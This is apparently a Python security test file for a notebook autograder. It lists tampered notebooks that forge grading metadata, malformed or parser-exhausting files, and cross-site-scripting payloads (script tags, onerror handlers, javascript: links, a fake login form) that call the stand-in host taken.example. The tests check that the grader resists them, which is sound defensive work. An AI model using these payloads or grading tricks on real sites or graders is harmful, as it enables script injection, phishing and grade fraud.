"""The notebook itself: a file that is not what it should be.

Such a notebook is graded like any other or refused, it stops nobody, and nothing in it runs, loads
or covers anything up where its feedback is read.
"""

import base64
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from tests.attacks.attack import FULL, REFUSED, Attack, cell_of, grouped

CHECK = "check_linear_forward"


def with_(id: str, tries: str, change: Callable[[NotebookNode], None], **more: object) -> Attack:
    return Attack(id, tries, change=change, **more)  # type: ignore[arg-type]


def doubled(notebook: NotebookNode) -> None:
    notebook.cells.append(cell_of(notebook, "linear_forward"))


def doubled_check(notebook: NotebookNode) -> None:
    notebook.cells.append(NotebookNode(cell_of(notebook, CHECK), source="pass", id="again"))


def worth_more(notebook: NotebookNode) -> None:
    for name in ("check_neuron_forward", CHECK):
        cell_of(notebook, name).metadata.nbgrader["points"] = 100


def other_type(notebook: NotebookNode) -> None:
    check = cell_of(notebook, CHECK)
    check.cell_type = "markdown"
    check.metadata.nbgrader["cell_type"] = "markdown"


def flipped(notebook: NotebookNode) -> None:
    cell_of(notebook, CHECK).metadata.nbgrader.update(
        {"grade": True, "solution": True, "locked": False}
    )


def unlocked(notebook: NotebookNode) -> None:
    check = cell_of(notebook, CHECK)
    check.metadata.nbgrader.update({"locked": False, "grade": False, "solution": True})
    check.source = "4.0"


def rewritten(notebook: NotebookNode) -> None:
    cell_of(notebook, CHECK).source = "4.0"


def library_changed(notebook: NotebookNode) -> None:
    cell_of(notebook, "library").source += "\ndef check(*_): pass\nexpect = check\n"


def deleted(notebook: NotebookNode) -> None:
    notebook.cells.remove(cell_of(notebook, CHECK))


def fake(notebook: NotebookNode) -> None:
    about = dict(cell_of(notebook, CHECK).metadata.nbgrader)
    cell = new_code_cell("4.0")
    cell.metadata["nbgrader"] = about | {"grade_id": "check_bonus", "points": 50}
    notebook.cells.append(cell)


def swapped_names(notebook: NotebookNode) -> None:
    """The check that fails takes the place of the one that passes."""
    first = cell_of(notebook, "check_neuron_forward")
    second = cell_of(notebook, CHECK)
    first.metadata.nbgrader, second.metadata.nbgrader = (
        second.metadata.nbgrader,
        first.metadata.nbgrader,
    )


def baked(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.execution_count = 1
            cell.outputs = [new_output("execute_result", {"text/plain": "4.0"})]


def tagged(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
        cell.metadata["jupyter"] = {"source_hidden": True, "outputs_hidden": True}


def skipped(notebook: NotebookNode) -> None:
    cell_of(notebook, CHECK).metadata["tags"] = ["skip-execution"]


def another_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}
    notebook.metadata["language_info"] = {"name": "bash"}


def old_schema(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata.nbgrader["schema_version"] = 1


def new_schema(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata.nbgrader["schema_version"] = 99


def strange_metadata(notebook: NotebookNode) -> None:
    cells = [new_code_cell("1") for _ in range(4)]
    for cell, about in zip(cells, ([], "x", {"grade_id": []}, {"grade_id": None}), strict=True):
        cell.metadata["nbgrader"] = about
    notebook.cells += cells


MARK = "taken.example"
"""What stands in every attack on a page; it may stand there as text alone."""

SCRIPTS = (
    f"<script>fetch('//{MARK}')</script>",
    f"<ScRiPt src=//{MARK}></script>",
    f"<img src=x onerror=fetch('//{MARK}')>",
    f"<details open ontoggle=\"fetch('//{MARK}')\">x</details>",
    f"<svg onload=fetch('//{MARK}')><script>fetch('//{MARK}')</script></svg>",
    f"<math><mtext></p><style><img src=x onerror=fetch('//{MARK}')></style></mtext></math>",
    f"</div></div></body></html><script>fetch('//{MARK}')</script>",
    f"<noscript><p title='</noscript><img src=x onerror=fetch(\"//{MARK}\")>'></noscript>",
)
LINKS = (
    f"[link](javascript:fetch('//{MARK}'))",
    f"<a href=\"JaVa&#9;script:fetch('//{MARK}')\">x</a>",
    f"<a href=' javascript:fetch(`//{MARK}`)'>x</a>",
    f"<a href='data:text/html,<script>//{MARK}</script>'>x</a>",
    f"[x]: javascript:fetch('//{MARK}')\n\n[x]",
)
LOADS = (
    f"<iframe src=//{MARK}></iframe>",
    f"<object data=//{MARK}></object><embed src=//{MARK}>",
    f"<img src=https://{MARK}/pixel.png>",
    f"![pixel](https://{MARK}/pixel.png)",
    f"<link rel=stylesheet href=//{MARK}><style>@import '//{MARK}'</style>",
    f"<form action=//{MARK}><input name=password><button>Log in</button></form>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}'><base href=//{MARK}>",
    f"<div style='position: fixed; inset: 0; background: url(//{MARK})'>Score: 4 of 4</div>",
)


class Page(HTMLParser):
    """Finds the mark where a browser would follow it."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self._inside = tag if tag in ("script", "style") else ""
        for name, value in attributes:
            picture = tag == "img" and (value or "").startswith("data:image/")
            harmless = picture or name in ("alt", "title")
            if value and MARK in _unpacked(value) and not harmless:
                self.found.append(f"{tag} {name}")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside and MARK in data:
            self.found.append(self._inside)


def _unpacked(value: str) -> str:
    """An attribute's value, or the page that is packed into it."""
    packed = re.match("data:.*;base64,(.*)", value, re.DOTALL)
    return base64.b64decode(packed[1]).decode(errors="replace") if packed else value


def runs_and_loads_nothing(page: str) -> str:
    found = sorted(set(Page(page).found))
    return f"reached the page: {', '.join(found)}" if found else ""


def on_the_page(id: str, tries: str, change: Callable[[NotebookNode], None]) -> Attack:
    """An attack on whoever opens the feedback page."""
    return Attack(id, tries, change=change, proves=runs_and_loads_nothing, stock="reached the page")


def as_text(*texts: str) -> Callable[[NotebookNode], None]:
    """Markdown cells."""

    def change(notebook: NotebookNode) -> None:
        notebook.cells += [new_markdown_cell(text) for text in texts]

    return change


def as_output(*texts: str, kind: str = "text/html", about: str = "{}") -> Callable[..., None]:
    """Cells that display such data."""

    def change(notebook: NotebookNode) -> None:
        show = "from IPython.display import display\ndisplay"
        notebook.cells += [
            new_code_cell(f"{show}({{{kind!r}: {text!r}}}, metadata={about}, raw=True)")
            for text in texts
        ]

    return change


def svg_attachment(notebook: NotebookNode) -> None:
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'><script>'//{MARK}'</script></svg>"
    data = base64.b64encode(drawing.encode()).decode()
    cell = new_markdown_cell(
        f"![x](attachment:x.svg)\n<script src='attachment:x.js'>{MARK}</script>"
    )
    cell["attachments"] = {"x.svg": {"image/svg+xml": data}, "x.js": {"text/javascript": data}}
    notebook.cells.append(cell)


def widgets(notebook: NotebookNode) -> None:
    state = {"state": {"a": {"model_name": "HTMLModel", "state": {"value": MARK}}}}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    view = "application/vnd.jupyter.widget-view+json"
    as_output({"model_id": MARK, "version_major": 2}, kind=view)(notebook)  # type: ignore[arg-type]


def title(notebook: NotebookNode) -> None:
    notebook.metadata["title"] = "{{ 7 * 7 }}<script>"
    notebook.metadata["authors"] = [{"name": "{% raw %}"}]


def heavy_markdown(text: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        notebook.cells.append(new_markdown_cell(text))

    return change


def odd_letters(notebook: NotebookNode) -> None:
    notebook.cells.append(new_markdown_cell("half a letter: \ud83d, and zero: \0"))
    notebook.cells.append(new_code_cell("'half a letter: \udc80' # \ud83d"))


def order(notebook: NotebookNode) -> None:
    notebook.cells.reverse()


def fields(**changes: object) -> Callable[[str], str]:
    """A notebook file with some of its fields set otherwise."""
    return lambda text: json.dumps(json.loads(text) | changes)


ATTACKS = grouped(
    "notebook",
    [
        with_(
            "doubled-answer",
            "An answer's cell twice.",
            doubled,
            stock="aborted the batch",
        ),
        with_(
            "doubled-check",
            "A check's cell twice, the second without a check.",
            doubled_check,
        ),
        with_("points", "Points raised in the cell's metadata.", worth_more),
        with_("type", "A check turned into text.", other_type),
        with_("flipped", "A check turned into an answer, to be graded by hand.", flipped),
        with_("unlocked", "A check unlocked and replaced by its points.", unlocked),
        with_("check-rewritten", "A check replaced by its points.", rewritten),
        with_("library-rewritten", "The library replaced what checks.", library_changed),
        with_("check-deleted", "A check deleted.", deleted),
        with_("check-added", "A check of one's own, with points.", fake),
        with_(
            "checks-swapped",
            "Two checks under each other's name.",
            swapped_names,
            earns={"check_neuron_forward": 2.0, "check_linear_forward": 0.0},
        ),
        with_("outputs-baked-in", "Outputs that were there before.", baked),
        with_("skip-tag", "A tag that has the check skipped.", skipped, stock="full marks"),
        with_("all-tags", "Tags that hide, skip and excuse every cell.", tagged),
        with_("another-kernel", "Another language.", another_kernel),
        with_("old-schema", "Metadata of an old version of nbgrader.", old_schema),
        with_("new-schema", "Metadata of a version that does not exist.", new_schema),
        with_("strange-metadata", "Metadata of the wrong types.", strange_metadata),
        with_("reversed", "All cells in reverse, checks before answers.", order),
        on_the_page("scripts", "Scripts and handlers in markdown.", as_text(*SCRIPTS)),
        on_the_page("scripts-in-html", "The same in HTML that is displayed.", as_output(*SCRIPTS)),
        on_the_page(
            "scripts-in-markdown",
            "The same in markdown that is displayed.",
            as_output(*SCRIPTS, kind="text/markdown"),
        ),
        on_the_page("links", "Links that are programs, in markdown.", as_text(*LINKS)),
        on_the_page("links-in-html", "The same in HTML that is displayed.", as_output(*LINKS)),
        on_the_page("loads", "Frames, pictures and forms from elsewhere.", as_text(*LOADS)),
        on_the_page("loads-in-html", "The same in HTML that is displayed.", as_output(*LOADS)),
        on_the_page(
            "isolated-html",
            "HTML in a frame of its own.",
            as_output(f"<script src=//{MARK}></script>", about="{'text/html': {'isolated': True}}"),
        ),
        on_the_page(
            "javascript",
            "JavaScript as an output.",
            as_output(f"fetch('//{MARK}')", kind="application/javascript"),
        ),
        on_the_page(
            "picture-attributes",
            "A handler in the width of a picture.",
            as_output(
                "AAAA",
                kind="image/png",
                about=f"{{'image/png': {{'width': '1 onerror=fetch(\"//{MARK}\")'}}}}",
            ),
        ),
        with_(
            "svg",
            "A drawing with a script.",
            as_output(*SCRIPTS, kind="image/svg+xml"),
            proves=runs_and_loads_nothing,
        ),
        with_("widgets", "A widget's state and view.", widgets, proves=runs_and_loads_nothing),
        on_the_page("attachments", "A drawing and a script as attachments.", svg_attachment),
        with_("template-code", "Template code in the notebook's title.", title),
        with_(
            "deep-quotes",
            "A quotation in a quotation, ten thousand times.",
            heavy_markdown(">" * 10_000 + " x"),
        ),
        with_(
            "deep-list",
            "A list in a list, a thousand times.",
            heavy_markdown("\n".join(" " * 2 * i + "- x" for i in range(1000))),
        ),
        with_(
            "open-brackets",
            "A hundred thousand brackets that nobody closes.",
            heavy_markdown("[" * 50_000 + "![" * 50_000),
        ),
        with_(
            "stars",
            "Emphasis that could end anywhere.",
            heavy_markdown("*a **a " * 10_000 + "_" * 10_000),
        ),
        with_(
            "ticks-and-dollars",
            "Code and formulas that never end.",
            heavy_markdown("`$" * 30_000 + "$$`" * 10_000 + "<" * 30_000),
        ),
        with_("half-letters", "Letters that no file can hold.", odd_letters),
        Attack(
            "half-a-file",
            "The first half of a notebook.",
            text=lambda text: text[: len(text) // 2],
            earns=REFUSED,
        ),
        Attack("empty", "An empty file.", text=lambda _: "", earns=REFUSED),
        Attack("not-json", "A file that is no JSON.", text=lambda _: "print(1)", earns=REFUSED),
        Attack(
            "deep-json",
            "A file of a million brackets.",
            text=lambda _: "[" * 1_000_000,
            earns=REFUSED,
        ),
        Attack("list", "A file that holds a list.", text=lambda _: "[]", earns=REFUSED),
        Attack("format-3", "A notebook of format 3.", text=fields(nbformat=3), earns=REFUSED),
        Attack("format-99", "A notebook of format 99.", text=fields(nbformat=99), earns=REFUSED),
        Attack("minor-99", "A notebook of format 4.99.", text=fields(nbformat_minor=99)),
        Attack(
            "minor-text",
            "A notebook whose version is a text.",
            text=fields(nbformat_minor="x", metadata=[]),
        ),
        Attack("no-cells", "A notebook without cells.", text=fields(cells=None), earns=REFUSED),
        Attack("no-lesson", "A notebook of something else.", text=fields(cells=[]), earns=REFUSED),
        Attack(
            "long-number",
            "A number of ten thousand digits.",
            text=lambda text: text[:-1] + ', "x": ' + "9" * 10_000 + "}",
            earns=REFUSED,
        ),
        Attack(
            "nan",
            "Numbers that are none.",
            text=lambda text: text[:-1] + ', "x": [NaN, Infinity, 1e999]}',
        ),
        Attack(
            "outputs-of-every-kind",
            "Outputs that no notebook has.",
            text=lambda text: text.replace('"outputs": []', '"outputs": [{"a": 1}, null, 5]'),
        ),
        Attack(
            "right-all-the-same",
            "Nothing: the answers are right.",
            "class Linear(Node):\n    def __init__(self, X, W, b):\n"
            "        super().__init__([X, W, b])\n\n    def forward(self):\n"
            "        X, W, b = (node.value for node in self.inbound_nodes)\n"
            "        self.value = X @ W + b",
            change=as_text(*SCRIPTS),
            earns=FULL,
        ),
    ],
)
